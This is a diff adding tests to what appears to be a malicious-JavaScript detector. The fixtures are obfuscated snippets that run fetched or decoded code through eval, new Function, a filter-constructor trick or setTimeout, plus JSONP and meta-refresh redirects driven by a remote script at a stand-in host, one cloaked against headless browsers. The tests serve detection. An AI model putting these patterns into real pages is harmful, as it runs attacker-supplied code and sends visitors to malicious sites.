@@ -103,6 +103,27 @@ describe('detectors', () => {
     assert.equal(detected(monitor).get('request-interception'), 'low');
   });
 
+  test('code run from a response or a decoder is traced back through named callbacks, helpers and methods', () => {
+    // `.then(run)` with `run` defined elsewhere, and eval saved from an object under a built name
+    assert.equal(detected('var run = function (t) { var e = w["ev" + "al"]; e(t); }; fetch(u).then(function (r) { return r.text(); }).then(run);').get('dynamic-code-execution'), 'high');
+    // a callback handed to a request helper, which calls it with the response body
+    assert.equal(detected('function g(u, c) { var x = new XMLHttpRequest(); x.open("GET", u); x.onload = function () { c(x.responseText); }; x.send(); } function r(t) { new Function(t)(); } g("/x", r);').get('dynamic-code-execution'), 'high');
+    // a static method that decodes, a cipher run by [].filter.constructor, setTimeout on the global object via `this`
+    assert.equal(detected('class M { static r() { return [1, 2].map((v) => String.fromCharCode(v + 64)).join(""); } } new Function(M.r())();').get('dynamic-code-execution'), 'high');
+    assert.equal(detected('var s = atob(p).split("").reverse().join(""); []["filter"]["constructor"](s)();').get('dynamic-code-execution'), 'high');
+    assert.equal(detected('(function (g) { var c = String.fromCharCode.apply(null, codes); g["setTimeout"](c, 0); })(this);').get('dynamic-code-execution'), 'high');
+    // callbacks stay callbacks
+    assert.ok(!detected('function tick() { render(); } (function (g) { g.setTimeout(tick, 10); })(this); fetch(u).then(function (r) { return r.json(); }).then(show);').has('dynamic-code-execution'));
+  });
+
+  test('JSONP and meta-refresh redirects chosen by a remote script', () => {
+    const jsonp = 'var cb = "_cb" + Date.now(); window[cb] = function (r) { var m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + r.u; document.head.appendChild(m); }; var s = document.createElement("script"); s.src = "https://tds.example/in.js?cb=" + cb; document.head.appendChild(s);';
+    assert.equal(detected(jsonp).get('drive-by-redirect'), 'medium');
+    const cloaked = 'class R { static send(p) { return new Promise((ok) => { const x = new XMLHttpRequest(); x.onload = () => ok(JSON.parse(x.responseText)); x.send(p); }); } static go(d) { window.location.replace(d.target); } } if (!("callPhantom" in window)) R.go(await R.send(1));';
+    assert.equal(detected(cloaked).get('drive-by-redirect'), 'medium');
+    assert.equal(detected('window.onDone = function () { location.reload(); }; var m = document.createElement("meta"); m.content = "width=device-width";').get('drive-by-redirect'), undefined);
+  });
+
   test('a hidden frame without a named host is only a weak signal', () => {
     assert.equal(detected('var f = document.createElement("iframe"); f.style.display = "none"; document.body.appendChild(f);').get('hidden-iframe'), 'low');
   });
